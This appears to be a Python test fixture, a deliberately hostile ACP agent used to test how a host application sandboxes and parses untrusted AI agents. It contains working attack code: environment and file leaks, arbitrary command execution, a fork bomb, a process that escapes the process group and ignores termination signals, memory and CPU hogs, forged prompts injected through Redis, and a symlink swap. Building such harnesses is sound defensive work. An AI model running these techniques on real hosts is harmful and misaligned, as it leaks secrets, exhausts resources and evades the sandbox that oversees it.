"""An ACP agent that attacks its host: it leaks, probes and sends what a careful agent never would.

Standard library only (it runs as a sandbox's own user, under any python3). The first word of a
prompt picks the scenario; every scenario ends with one chunk `after <word>` and `end_turn` (but
`badanswer` answers otherwise, and `stall` never answers), so a test can tell that nothing after
the bad item was lost. Started with a method and the name of an answer in BAD_ANSWERS
(`hostile_agent.py session/new empty`), it gives that answer to every request of that method
(and advertises the method if it is `session/load` or `session/resume`).

  env                    one chunk: the agent's whole environment as a JSON object
  whoami                 one chunk: {"uid", "gid", "groups", "pid", "cwd", "home"} as JSON
  probe <target>...      one chunk: {target: result} as JSON, where a target is a path (read a
                         file or list a folder), `write:<path>`, `list:<path>`, `read:<path>` or
                         `kill:<pid>` (signal 0), and a result is "ok", "denied", "missing" or
                         "error: <errno name>"
  connect <target>...    one chunk: {target: result} as JSON, where a target is `host:port` or
                         `[v6 address]:port` (TCP), `dns:<address>` (a DNS query over UDP),
                         `unix:<path>` (a Unix stream socket) or `abstract:<name>` (an
                         abstract Unix socket), and a result is "ok",
                         "refused", "timeout" or "error: <errno name>"
  selfserve              listen on a free port of 127.0.0.1 and of ::1, and connect to each
                         (a dev server and its test); one chunk: {address: result} as JSON
  listen <target>...     listen, until the agent ends, on each `abstract:<name>` (an abstract
                         Unix socket) or `unix:<path>` (a socket file, open to every user, its
                         folder too); one chunk: {target: "listening" or the error} as JSON
  read <path>            one chunk: the first 64 KiB of the file, or the error
  resolve <name>...      one chunk: {name: its first IPv4 address, or the error} as JSON
  exec <argv>...         run the command; one chunk: {"code", "stderr"} as JSON
  survivor               start a grandchild that escapes the agent's process group: double
                         fork, `setsid`, SIGTERM and SIGHUP ignored, asleep forever; one chunk:
                         its pid as the agent sees it
  spawn <n>              start n sleeping children; one chunk: how many started (they are
                         ended again before the turn ends)
  forkbomb               start a fork bomb that escapes the agent's process group (setsid):
                         every process forks as fast as it can and never waits for its
                         children, which exit (and stay zombies) once they cannot fork; one
                         chunk, once a fork has failed: how many the first bomb process forked
  hog <MiB>              allocate and touch <MiB> MiB in the agent itself; one chunk, if it
                         lives: the MiB it holds (it lets go of them before the turn ends)
  hogchild <MiB>         the same in a child; one chunk: the child's exit code (-9: killed)
  burn <seconds> <n>     keep <n> processes busy on the CPU for <seconds>; one chunk: the CPU
                         seconds they used, as a number
  cgroup                 one chunk: /proc/self/cgroup as a JSON object {controllers: path}
  redis-inject <host:port[/db]> <session id> <text>
                         what an agent that reaches the channel layer's Redis can try: into
                         the channel of every socket of the session, a forged
                         `websocket.receive` carrying the prompt <text> and a forged
                         `events.available` doorbell with fake events numbered 1 to 100
                         (a socket shows those past what it has); one chunk: JSON
                         {"channels": n} or {"error": ...}
  link <path> <target>   replace <path> (a file or folder the agent owns) with a symbolic link
                         to <target>, to turn the server's own work there against it; one
                         chunk: "linked" or the error
  surrogate              a chunk and a tool call title holding a lone UTF-16 surrogate
  nul                    a chunk holding a NUL character
  hugekind [n=100000]    an update whose sessionUpdate is n characters long
  deep [n=100000]        an update nested n lists deep (a RecursionError for naive parsers)
  malformed              updates that are not objects, lack or mistype sessionUpdate, a plan
                         whose entries is a number, content of the wrong types
  listparams             session/update notifications whose params are a list, a string, null,
                         or whose update is a list
  badresponse            responses with ids that are lists or objects, and answers to ids Craft
                         never used: a string error, a list, a result and an error
  badanswer <name>       answers the prompt with BAD_ANSWERS[name] instead of `end_turn`
  stall                  answers ids Craft never used (a list result; a result and an error),
                         sends the chunk `stalled <pid>`, then never answers the prompt: it
                         waits for the end of its input
  stderr <MiB>           one stderr line of <MiB> MiB of "x", written 1 MiB at a time (the agent
                         never holds the line either)
  stderrflood <n>        <n> stderr lines of 100 bytes, as fast as the pipe takes them
  permission             a permission request whose options have non-string optionIds (a number,
                         null, an object) beside one good option; the chunk before `after`
                         reports the answer: `answer: <result or error as JSON>`
  permission-none        a permission request without one usable option; reports the answer
  permission-badparams   a permission request whose params are a list; reports the answer
  anything else          the chunk `hostile: <prompt>`
"""

import errno
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import threading
import time

SESSION = "hostile"
MALFORMED_UPDATES = [
    ["a", "list"],
    "a string",
    42,
    None,
    {},
    {"sessionUpdate": 7},
    {"sessionUpdate": ["plan"]},
    {"sessionUpdate": "plan", "entries": 5},
    {"sessionUpdate": "agent_message_chunk", "content": 3},
    {"sessionUpdate": "tool_call_update", "toolCallId": 9, "content": "x"},
]
ODD_PARAMS = [
    [{"update": {"sessionUpdate": "agent_message_chunk"}}],
    "params",
    None,
    {"sessionId": SESSION, "update": ["agent_message_chunk"]},
]
# Answers that JSON-RPC or ACP do not allow (or, for some methods, that lack what Craft needs),
# without their `jsonrpc` and `id`.
BAD_ANSWERS = {
    "list": {"result": [1, 2, 3]},
    "string": {"result": "done"},
    "number": {"result": 42},
    "empty": {"result": {}},
    "object-stopreason": {"result": {"stopReason": 7}},
    "session-id-number": {"result": {"sessionId": 7}},
    "agent-info-list": {"result": {"protocolVersion": 1, "agentInfo": ["hostile"]}},
    "error-string": {"error": "it broke"},
    "error-message": {"error": {"code": -32000, "message": ["not", "text"]}},
    "both": {"result": {"stopReason": "end_turn"}, "error": {"code": -32000, "message": "no"}},
}
ODD_OPTIONS = [
    {"optionId": 1, "name": "One", "kind": "allow_once"},
    {"optionId": None},
    "not an object",
    {"optionId": {"x": 1}, "name": 5},
    {"optionId": "ok", "name": "OK", "kind": "allow_once"},
]


def send_line(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def send(message: object) -> None:
    # ensure_ascii (the default) writes a lone surrogate as the escape \\udXXX: valid JSON.
    send_line(json.dumps(message))


def update(update: object) -> None:
    send(
        {
            "jsonrpc": "2.0",
            "method": "session/update",
            "params": {"sessionId": SESSION, "update": update},
        }
    )


def chunk(text: str) -> None:
    update({"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}})


def probe_one(target: str) -> str:
    verb, _, rest = target.partition(":")
    if verb not in ("read", "list", "write", "kill") or not rest:
        verb, rest = ("list" if os.path.isdir(target) else "read"), target
    try:
        if verb == "list":
            os.listdir(rest)
        elif verb == "read":
            with open(rest, "rb") as handle:
                handle.read(16)
        elif verb == "write":
            with open(rest, "ab") as handle:
                handle.write(b"written by a hostile agent\n")
        else:
            os.kill(int(rest), 0)
    except PermissionError:
        return "denied"
    except (FileNotFoundError, ProcessLookupError):
        return "missing"
    except OSError as exc:
        return f"error: {errno.errorcode.get(exc.errno or 0, str(exc))}"
    return "ok"


def connect_one(target: str) -> str:
    kind, _, rest = target.partition(":")
    try:
        if kind in ("unix", "abstract"):
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(5)
            sock.connect(rest if kind == "unix" else "\0" + rest)
        elif kind == "dns":
            sock = socket.socket(
                socket.AF_INET6 if ":" in rest else socket.AF_INET, socket.SOCK_DGRAM
            )
            sock.settimeout(5)
            # A standard query for the root's NS records: any answer shows the server was reached.
            sock.sendto(
                b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01", (rest, 53)
            )
            sock.recv(512)
        else:
            host, _, port = target.rpartition(":")
            host = host.strip("[]")
            sock = socket.create_connection((host, int(port)), timeout=5)
        sock.close()
    except ConnectionRefusedError:
        return "refused"
    except TimeoutError:
        return "timeout"
    except OSError as exc:
        return f"error: {errno.errorcode.get(exc.errno or 0, str(exc))}"
    return "ok"


# Listening sockets of `listen` and `selfserve`, kept open for as long as the agent runs.
LISTENING: list[socket.socket] = []


def serve_forever(sock: socket.socket) -> None:
    """Accept and close connections on `sock` in a thread of its own, for as long as the
    agent runs."""
    sock.listen(16)
    LISTENING.append(sock)

    def accept() -> None:
        while True:
            connection, _ = sock.accept()
            connection.close()

    threading.Thread(target=accept, daemon=True).start()


def self_serve() -> dict[str, str]:
    results = {}
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        try:
            server = socket.socket(family)
            server.bind((address, 0))
            serve_forever(server)
            port = server.getsockname()[1]
        except OSError as exc:
            results[address] = f"cannot listen: {errno.errorcode.get(exc.errno or 0, exc)}"
            continue
        target = f"[{address}]:{port}" if family == socket.AF_INET6 else f"{address}:{port}"
        results[address] = connect_one(target)
    return results


def listen_on(target: str) -> str:
    kind, _, rest = target.partition(":")
    try:
        sock = socket.socket(socket.AF_UNIX)
        if kind == "abstract":
            sock.bind("\0" + rest)
        else:
            sock.bind(rest)
            os.chmod(rest, 0o777)
            os.chmod(os.path.dirname(rest), 0o755)
        serve_forever(sock)
    except OSError as exc:
        return f"error: {errno.errorcode.get(exc.errno or 0, str(exc))}"
    return "listening"


def resolve(name: str) -> str:
    try:
        return socket.getaddrinfo(name, None, socket.AF_INET)[0][4][0]
    except OSError as exc:
        return f"error: {exc}"


def read_file(path: str) -> str:
    try:
        with open(path, "rb") as handle:
            return handle.read(65536).decode(errors="replace")
    except OSError as exc:
        return f"error: {errno.errorcode.get(exc.errno or 0, str(exc))}"


def execute(argv: list[str]) -> dict[str, object]:
    try:
        done = subprocess.run(argv, capture_output=True, timeout=30)
    except OSError as exc:
        return {"code": None, "stderr": f"error: {errno.errorcode.get(exc.errno or 0, exc)}"}
    return {"code": done.returncode, "stderr": done.stderr.decode(errors="replace")[-2000:]}


def start_survivor() -> int:
    """Start a grandchild that a process-group kill misses; return its pid."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            os.write(writer, str(os.getpid()).encode())
            os.close(writer)
            for fd in range(3):
                os.close(fd)
            while True:
                time.sleep(60)
        os._exit(0)
    os.close(writer)
    pid = int(os.read(reader, 32))
    os.close(reader)
    os.wait()
    return pid


def spawn(count: int) -> int:
    children = []
    for _ in range(count):
        try:
            children.append(subprocess.Popen(["sleep", "60"]))
        except OSError:
            break
    for child in children:
        child.kill()
        child.wait()
    return len(children)


def fork_bomb() -> int:
    """Start a fork bomb outside the agent's process group; return, once a fork has failed,
    how many children its first process made."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        os.close(reader)
        signal.signal(signal.SIGPIPE, signal.SIG_IGN)
        made, first = 0, True
        while True:
            try:
                pid = os.fork()
            except OSError:
                if first:
                    os.write(writer, str(made).encode().ljust(16))
                    first = False
                elif made == 0:
                    os._exit(0)  # a child that cannot fork: a zombie nobody waits for
                time.sleep(0.01)
                continue
            if pid == 0:
                if first:
                    os.close(writer)  # only the first process tells
                made, first = 0, False
            else:
                made += 1
    os.close(writer)
    made = int(os.read(reader, 16))
    os.close(reader)
    return made


PAGE = 4096


def hog(mebibytes: int) -> list[bytearray]:
    """Allocate `mebibytes` MiB and write to every page of them (so they are really held)."""
    held = []
    for _ in range(0, mebibytes, 64):
        chunk = bytearray(64 << 20)
        chunk[::PAGE] = b"\x01" * ((64 << 20) // PAGE)
        held.append(chunk)
    return held


def burn(seconds: float, count: int) -> float:
    """Keep `count` processes busy for `seconds`; return the CPU seconds they used."""
    children = []
    for _ in range(count):
        pid = os.fork()
        if pid == 0:
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline:
                pass
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def msgpack(value: object) -> bytes:
    """Encode `value` (dicts, lists, strings, ints, booleans, None) as msgpack."""
    if value is None:
        return b"\xc0"
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        return b"\xd3" + value.to_bytes(8, "big", signed=True)
    if isinstance(value, str):
        data = value.encode()
        return b"\xdb" + len(data).to_bytes(4, "big") + data
    if isinstance(value, list):
        return b"\xdd" + len(value).to_bytes(4, "big") + b"".join(map(msgpack, value))
    assert isinstance(value, dict)
    items = b"".join(msgpack(k) + msgpack(v) for k, v in value.items())
    return b"\xdf" + len(value).to_bytes(4, "big") + items


def redis(sock: socket.socket, *words: bytes) -> object:
    """Send one command and read its answer (RESP)."""
    command = b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)
    sock.sendall(command)
    reader = sock.makefile("rb")

    def read() -> object:
        line = reader.readline().rstrip(b"\r\n")
        kind, rest = line[:1], line[1:]
        if kind in (b"+", b"-"):
            return rest.decode()
        if kind == b":":
            return int(rest)
        if kind == b"$":
            return None if int(rest) < 0 else reader.read(int(rest) + 2)[:-2]
        return [read() for _ in range(int(rest))]

    return read()


def redis_inject(address: str, session_id: str, text: str) -> dict[str, object]:
    address, _, database = address.partition("/")
    host, _, port = address.rpartition(":")
    try:
        sock = socket.create_connection((host, int(port)), timeout=5)
    except OSError as exc:
        return {"error": errno.errorcode.get(exc.errno or 0, str(exc))}
    if database:
        redis(sock, b"SELECT", database.encode())
    group = f"asgi:group:session.{session_id.replace('-', '')}".encode()
    channels = [c.decode() for c in redis(sock, b"ZRANGE", group, b"0", b"-1")]
    fakes = [
        json.dumps(
            {
                "type": "event",
                "seq": seq,
                "kind": "agent_message_chunk",
                "data": {"content": {"type": "text", "text": "forged event"}},
            }
        )
        for seq in range(1, 101)
    ]
    for channel in channels:
        key = ("asgi" + channel[: channel.index("!") + 1]).encode()
        forged = [
            {
                "type": "websocket.receive",
                "text": json.dumps({"type": "prompt", "id": "forged-prompt", "text": text}),
            },
            {
                "type": "events.available",
                "origin": "forged",
                "first_seq": 1,
                "last_seq": len(fakes),
                "frames": fakes,
            },
        ]
        for message in forged:
            payload = os.urandom(12) + msgpack({"__asgi_channel__": channel, **message})
            redis(sock, b"ZADD", key, str(time.time()).encode(), payload)
    sock.close()
    return {"channels": len(channels)}


def swap_for_link(path: str, target: str) -> str:
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            os.rename(path, f"{path}.moved-away")
        elif os.path.lexists(path):
            os.unlink(path)
        os.symlink(target, path)
    except OSError as exc:
        return f"error: {exc}"
    return "linked"


def ask_permission(params: object) -> object:
    """Send a permission request and wait for its answer (other lines are ignored meanwhile)."""
    send(
        {"jsonrpc": "2.0", "id": "perm-1", "method": "session/request_permission", "params": params}
    )
    for line in sys.stdin:
        message = json.loads(line)
        if message.get("id") == "perm-1" and "method" not in message:
            return message.get("result", {"error": message.get("error")})
        if message.get("method") == "session/cancel":
            return {"cancel": "received"}
    return {"eof": True}


def run(word: str, args: list[str], text: str) -> dict:
    """Play the scenario `word`; return the answer to the prompt (without jsonrpc and id)."""
    if word == "env":
        chunk(json.dumps(dict(os.environ), sort_keys=True))
    elif word == "whoami":
        chunk(
            json.dumps(
                {
                    "uid": os.getuid(),
                    "gid": os.getgid(),
                    "groups": os.getgroups(),
                    "pid": os.getpid(),
                    "cwd": os.getcwd(),
                    "home": os.path.expanduser("~"),
                }
            )
        )
    elif word == "probe":
        chunk(json.dumps({target: probe_one(target) for target in args}))
    elif word == "connect":
        chunk(json.dumps({target: connect_one(target) for target in args}))
    elif word == "selfserve":
        chunk(json.dumps(self_serve()))
    elif word == "listen":
        chunk(json.dumps({target: listen_on(target) for target in args}))
    elif word == "resolve":
        chunk(json.dumps({name: resolve(name) for name in args}))
    elif word == "read":
        chunk(read_file(args[0]))
    elif word == "exec":
        chunk(json.dumps(execute(args)))
    elif word == "survivor":
        chunk(str(start_survivor()))
    elif word == "spawn":
        chunk(str(spawn(int(args[0]))))
    elif word == "forkbomb":
        chunk(str(fork_bomb()))
    elif word == "hog":
        held = hog(int(args[0]))
        chunk(str(len(held) * 64))
        del held
    elif word == "hogchild":
        child = subprocess.run([sys.executable, __file__, "--hog", args[0]])
        chunk(str(child.returncode))
    elif word == "burn":
        chunk(str(burn(float(args[0]), int(args[1]))))
    elif word == "cgroup":
        with open("/proc/self/cgroup") as handle:
            lines = handle.read().splitlines()
        chunk(json.dumps({line.split(":")[1]: line.split(":", 2)[2] for line in lines}))
    elif word == "redis-inject":
        chunk(json.dumps(redis_inject(args[0], args[1], " ".join(args[2:]))))
    elif word == "link":
        chunk(swap_for_link(*args[:2]))
    elif word == "surrogate":
        chunk("half an emoji: \ud83d")
        update(
            {
                "sessionUpdate": "tool_call",
                "toolCallId": "s1",
                "title": "lone \udc00",
                "status": "pending",
            }
        )
    elif word == "nul":
        chunk("before\x00after")
    elif word == "hugekind":
        update({"sessionUpdate": "k" * int(args[0] if args else 100_000)})
    elif word == "deep":
        depth = int(args[0] if args else 100_000)
        send_line(
            '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"hostile",'
            '"update":{"sessionUpdate":"agent_message_chunk","content":'
            + "[" * depth
            + "]" * depth
            + "}}}"
        )
    elif word == "malformed":
        for bad in MALFORMED_UPDATES:
            update(bad)
    elif word == "listparams":
        for params in ODD_PARAMS:
            send({"jsonrpc": "2.0", "method": "session/update", "params": params})
    elif word == "badresponse":
        send({"jsonrpc": "2.0", "id": [1], "result": {}})
        send({"jsonrpc": "2.0", "id": {"a": 1}, "error": "not an object"})
        send({"jsonrpc": "2.0", "id": 999, "error": "not an object"})
        send({"jsonrpc": "2.0", "id": 998, **BAD_ANSWERS["list"]})
        send({"jsonrpc": "2.0", "id": 997, **BAD_ANSWERS["both"]})
    elif word == "permission":
        params = {"sessionId": SESSION, "toolCall": {"toolCallId": "p1"}, "options": ODD_OPTIONS}
        answer = ask_permission(params)
        chunk("answer: " + json.dumps(answer, sort_keys=True))
    elif word == "permission-none":
        params = {"sessionId": SESSION, "toolCall": "odd", "options": [{"name": "no id"}, 3]}
        answer = ask_permission(params)
        chunk("answer: " + json.dumps(answer, sort_keys=True))
    elif word == "permission-badparams":
        chunk("answer: " + json.dumps(ask_permission(["a", "list"]), sort_keys=True))
    elif word == "stderr":
        mebibyte = b"x" * (1 << 20)
        for _ in range(int(args[0])):
            sys.stderr.buffer.write(mebibyte)
        sys.stderr.buffer.write(b"\n")
        sys.stderr.flush()
    elif word == "stderrflood":
        for i in range(int(args[0])):
            sys.stderr.buffer.write(f"flood {i:08d} ".encode().ljust(99, b"x") + b"\n")
        sys.stderr.flush()
    elif word == "deafen":
        # Ask Craft what it does not serve, many times, then never read its answers again.
        for i in range(int(args[0])):
            send({"jsonrpc": "2.0", "id": f"deaf-{i}", "method": "fs/read_text_file",
                  "params": {"sessionId": SESSION, "path": "/x"}})  # fmt: skip
        chunk("deaf")
        time.sleep(3600)
    elif word == "stall":
        send({"jsonrpc": "2.0", "id": 10_000, **BAD_ANSWERS["list"]})
        send({"jsonrpc": "2.0", "id": 10_001, **BAD_ANSWERS["both"]})
        chunk(f"stalled {os.getpid()}")
        for _ in sys.stdin:
            pass
        sys.exit(0)
    elif word != "badanswer":
        chunk(f"hostile: {text}")
    chunk(f"after {word}")
    if word == "badanswer":
        return BAD_ANSWERS[args[0]]
    return {"result": {"stopReason": "end_turn"}}


def main() -> None:
    if sys.argv[1:2] == ["--hog"]:
        hog(int(sys.argv[2]))
        return
    bad_method, bad_answer = sys.argv[1:3] if len(sys.argv) >= 3 else (None, None)
    for line in sys.stdin:
        message = json.loads(line)
        method, request_id = message.get("method"), message.get("id")
        if method == bad_method:
            send({"jsonrpc": "2.0", "id": request_id, **BAD_ANSWERS[bad_answer]})
        elif method == "initialize":
            capabilities = {
                "loadSession": bad_method == "session/load",
                "sessionCapabilities": {"resume": {}} if bad_method == "session/resume" else {},
            }
            send(
                {
                    "jsonrpc": "2.0",
                    "id": request_id,
                    "result": {
                        "protocolVersion": 1,
                        "agentInfo": {"name": "hostile"},
                        "agentCapabilities": capabilities,
                    },
                }
            )
        elif method == "session/new":
            send({"jsonrpc": "2.0", "id": request_id, "result": {"sessionId": SESSION}})
        elif method == "session/prompt":
            text = "".join(block.get("text", "") for block in message["params"]["prompt"])
            words = text.split()
            answer = run(words[0].lower() if words else "", words[1:], text)
            send({"jsonrpc": "2.0", "id": request_id, **answer})


if __name__ == "__main__":
    main()
